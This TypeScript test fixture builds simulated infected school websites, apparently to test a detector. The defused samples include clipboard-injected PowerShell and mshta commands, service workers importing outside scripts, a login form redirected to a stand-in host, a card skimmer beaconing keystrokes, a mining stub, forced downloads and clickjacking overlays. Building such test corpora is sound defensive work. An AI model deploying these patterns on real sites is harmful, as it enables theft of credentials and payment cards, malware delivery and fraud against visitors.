import type { CorpusSite } from '../../corpus-site.ts';
import { computed, data, drawn, script, withData } from '../drawn.ts';

const COVER = 'position:fixed;top:0;left:0;right:0;bottom:0;z-index:2147483647;';

/** Code that draws what a list says: an element with a style, words and a link. */
const drawsBox =
  'var b=document.createElement("div");b.style.cssText=d.css;b.innerHTML=d.html;document.body.appendChild(b);';

/** Sites that do something to the visitor or to the visitor's machine. */
export const sites: readonly CorpusSite[] = [
  drawn('infected', {
    id: 'worker-imports-stranger',
    about: 'a worker of the site itself imports the code of a stranger and stays in the browser',
    platform: 'wordpress',
    school: 'Trường THCS Ở Lại Xanh',
    code: `navigator[${computed('serviceWorker')}].register(${computed('/sw-tin.js')})`,
    more: { '/sw-tin.js': script(`importScripts(${computed('https://bao-tin-nhanh.example/sw/act.js')})`) },
  }),
  drawn('infected', {
    id: 'worker-and-prompt',
    about: 'the page asks to send notices at once, with a worker that imports from a stranger',
    platform: 'nukeviet',
    school: 'Trường THPT Thông Báo Xanh',
    code: `navigator[${computed('serviceWorker')}].register("/tb.js");setTimeout(function(){window[${computed('Notification')}][${computed('requestPermission')}]()},300)`,
    more: {
      '/tb.js': script(
        `self[${computed('importScripts')}](${computed('https://moi-nhan-tin.example/w.js')})`,
      ),
    },
  }),
  drawn('infected', {
    id: 'press-allow-drawn',
    about:
      'a drawn box asks to press Allow as proof of not being a robot, and the page asks for the permission',
    platform: 'joomla',
    school: 'Trường THCS Cho Phép Xanh',
    code: withData('/media/b.json', `${drawsBox}setTimeout(function(){window[d.n][d.r]()},500)`),
    more: {
      '/media/b.json': data({
        css: `${COVER}background:#fff`,
        html: '<h2>Xác minh</h2><p>Nhấn “Cho phép” để chứng tỏ bạn không phải rô-bốt và tiếp tục xem trang.</p>',
        n: 'Notification',
        r: 'requestPermission',
      }),
    },
  }),
  drawn('infected', {
    id: 'command-into-clipboard',
    about: 'a drawn check for robots puts a command into the clipboard on a click and tells how to run it',
    platform: 'wordpress',
    school: 'Trường Tiểu học Sao Chép Xanh',
    code: withData(
      '/wp-content/uploads/c.json',
      `${drawsBox}document.addEventListener("click",function(){navigator[d.n][d.w](d.t)})`,
    ),
    more: {
      '/wp-content/uploads/c.json': data({
        css: `${COVER}background:#fff;text-align:center`,
        html: '<h2>Xác minh bạn là người</h2><p>Bấm vào đây, rồi nhấn phím Windows + R, Ctrl + V và Enter.</p>',
        n: 'clipboard',
        w: 'writeText',
        t: 'powershell -w hidden -c "echo thu-nghiem"',
      }),
    },
  }),
  drawn('infected', {
    id: 'command-into-clipboard-by-copy',
    about: 'a click copies a command by a hidden text box, without a word on the page',
    platform: 'dotnetnuke',
    school: 'Trường THPT Dán Lệnh Xanh',
    code: withData(
      '/Portals/0/t.json',
      'document.addEventListener("click",function(){var t=document.createElement("textarea");t.value=d.t;document.body.appendChild(t);t.select();document["exec"+"Command"]("co"+"py");t.remove()})',
    ),
    more: { '/Portals/0/t.json': data({ t: 'mshta https://chay-lenh.example/a' }) },
  }),
  drawn('infected', {
    id: 'program-at-once',
    about: 'a frame that the script makes starts the download of a program from the site itself',
    platform: 'shared-portal',
    school: 'Trường THCS Tải Về Xanh',
    code: withData(
      '/upload/d.json',
      'var i=document.createElement("iframe");i.style.display="none";i.src=d.f;document.body.appendChild(i)',
    ),
    more: {
      '/upload/d.json': data({ f: '/upload/2026/CapNhatTrinhDuyet.exe' }),
      '/upload/2026/CapNhatTrinhDuyet.exe': {
        headers: {
          'content-type': 'application/octet-stream',
          'content-disposition': 'attachment; filename="CapNhatTrinhDuyet.exe"',
        },
        body: 'khong phai chuong trinh',
      },
    },
  }),
  drawn('infected', {
    id: 'app-from-stranger',
    about: 'phones are sent to an app of a stranger',
    platform: 'wordpress',
    school: 'Trường THPT Ứng Dụng Xanh',
    code: `if(/Android|Mobile/.test(navigator[${computed('userAgent')}])){var a=document.createElement("a");a[${computed('href')}]=${computed('https://tai-app-nhanh.example/app.apk')};a[${computed('download')}]="app.apk";document.body.appendChild(a);a[${computed('click')}]()}`,
  }),
  drawn('infected', {
    id: 'password-sent-away',
    about: 'the script gives the login form another receiver',
    platform: 'shared-portal',
    school: 'Trường Tiểu học Mật Khẩu Xanh',
    code: withData(
      '/upload/q.json',
      'document.querySelectorAll("form").forEach(function(f){if(f.querySelector("input[type=password]"))f[d.k]=d.v})',
    ),
    more: { '/upload/q.json': data({ k: 'action', v: 'https://luu-thong-tin.example/dang-nhap' }) },
  }),
  drawn('infected', {
    id: 'card-form-drawn',
    about: 'a form for bank cards, drawn by the script, reports to a stranger by pictures',
    platform: 'joomla',
    school: 'Trường Mầm non Học Phí Xanh',
    code: withData(
      '/media/p.json',
      'var b=document.createElement("div");b.innerHTML=d.html;document.body.appendChild(b);new Image().src=d.u+"?s=1";b.addEventListener("input",function(e){new Image().src=d.u+"?v="+btoa(e.target.value)})',
    ),
    more: {
      '/media/p.json': data({
        html: '<form action="/nop-hoc-phi" method="post"><h2>Nộp học phí bằng thẻ</h2><label>Số thẻ <input name="cardnumber" autocomplete="cc-number"></label><label>Ngày hết hạn <input name="exp" autocomplete="cc-exp"></label><label>CVV <input name="cvv" autocomplete="cc-csc"></label><button>Nộp</button></form>',
        u: 'https://anh-thong-ke.example/p.gif',
      }),
    },
  }),
  drawn('infected', {
    id: 'coins-in-worker',
    about: 'workers made from a list count without end and talk to a pool of strangers',
    platform: 'nukeviet',
    school: 'Trường THPT Quạt Kêu Xanh',
    code: withData(
      '/data/m.json',
      'var s=new WebSocket(d.pool);var u=URL.createObjectURL(new Blob([d.w]));for(var i=0;i<2;i++)new Worker(u)',
    ),
    more: {
      '/data/m.json': data({
        pool: 'wss://be-dao.example:8443/proxy',
        // twelve seconds, so that nothing is left running should a browser not end it
        w: 'var e=Date.now()+12000,h=0;while(Date.now()<e){h=(h*31+7)|0}',
      }),
    },
  }),
  drawn('infected', {
    id: 'prize-box-over-page',
    about: 'a drawn box with a prize covers the page and leads to a stranger',
    platform: 'hand-made',
    school: 'Trường THCS Trúng Quà Xanh',
    code: withData('/images/g.json', drawsBox),
    more: {
      '/images/g.json': data({
        css: `${COVER}background:rgba(0,0,0,.85);color:#fff;text-align:center`,
        html: '<h2>Chúc mừng! Bạn là khách thứ 100.000</h2><p>Bạn đã trúng một iPhone.</p><a href="https://nhan-qua-ngay.example/" style="color:#ff0">Nhận quà ngay</a>',
      }),
    },
  }),
  drawn('infected', {
    id: 'clear-sheet-over-page',
    about: 'a clear link over the whole page catches every click for a stranger',
    platform: 'wordpress',
    school: 'Trường Tiểu học Tấm Kính Xanh',
    code: withData(
      '/wp-content/uploads/l.json',
      'var a=document.createElement("a");a.href=d.u;a.target="_blank";a.style.cssText=d.css;document.body.appendChild(a)',
    ),
    more: {
      '/wp-content/uploads/l.json': data({
        u: 'https://bam-la-toi.example/',
        css: `${COVER}opacity:0;display:block`,
      }),
    },
  }),
];
